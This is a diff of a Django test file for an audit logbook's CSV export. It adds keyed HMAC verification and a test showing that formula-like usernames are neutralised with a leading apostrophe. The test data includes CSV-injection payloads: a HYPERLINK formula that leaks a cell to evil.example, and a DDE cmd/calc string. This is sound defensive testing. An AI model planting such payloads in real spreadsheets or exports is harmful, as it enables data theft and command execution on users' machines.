@@ -4,19 +4,21 @@ from __future__ import annotations
 
 import csv
 import hashlib
+import hmac
 import io
 import json
 from typing import Any
 
 import pytest
 from asgiref.sync import async_to_sync
+from django.conf import settings
 from django.http import StreamingHttpResponse
 from django.test import AsyncClient
 
-from audit.exports import EXPORT_COLUMNS, LogbookExport
+from audit.exports import EXPORT_COLUMNS, FORMULA_STARTS, LogbookExport
 from audit.models import LogbookEntry
 from audit.selectors import LogbookFilters
-from audit.services import GENESIS_HASH
+from audit.services import GENESIS_HASH, logbook_append
 from tests.audit.conftest import append_many, signed_in
 from tests.audit.fixtures import SampleLogbook
 from tests.conftest import World
@@ -48,9 +50,11 @@ def offline_digest(record: dict[str, Any]) -> str:
         "request": record["request_id"],
         "instances": record["instance_ids"],
         "detail": record["detail"],
+        "key": record["key_id"],
     }
     text = json.dumps(canonical, sort_keys=True, separators=(",", ":"))
-    return hashlib.sha256(text.encode()).hexdigest()
+    key = settings.PASSPORT_LOGBOOK_KEYS[record["key_id"]]
+    return hmac.new(key.encode(), text.encode(), hashlib.sha256).hexdigest()
 
 
 def test_csv_has_a_header_and_one_row_per_entry(world: World, sample: SampleLogbook) -> None:
@@ -174,3 +178,29 @@ def test_under_asgi_the_response_streams_asynchronously(world: World, sample: Sa
     is_async, text = async_to_sync(fetch)()
     assert is_async
     assert [json.loads(line)["id"] for line in text.splitlines()] == [sample.staging.pk]
+
+
+@pytest.mark.parametrize(
+    "username", ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx"]
+)
+def test_a_csv_cell_is_never_a_spreadsheet_formula_and_still_verifies(world: World, username: str) -> None:
+    """A username from an identity provider reaches the CSV: written with a leading apostrophe, and an auditor
+    who drops that apostrophe (as the module documents) still recomputes the entry's hash."""
+    person = type(world.auditor).objects.create_user(username=username, password=None)
+    entry = logbook_append(action="test.formula", actor=person, detail={"note": "=1+1"})
+    rows = list(csv.DictReader(io.StringIO(body(signed_in(world.auditor).get(CSV_URL)))))
+    row = next(row for row in rows if row["id"] == str(entry.pk))
+    assert row["actor"] == "'" + username
+    assert row["detail"].startswith("{")
+    record: dict[str, Any] = {
+        **{column: unguarded_cell(value) for column, value in row.items()},
+        "actor_id": int(row["actor_id"]),
+        "request_id": None,
+        "detail": json.loads(row["detail"]),
+    }
+    assert offline_digest(record) == row["hash"]
+
+
+def unguarded_cell(value: str) -> str:
+    """The documented recipe: one apostrophe before = + - @ TAB or CR is the export's, not the entry's."""
+    return value[1:] if value[:1] == "'" and value[1:2] in FORMULA_STARTS else value
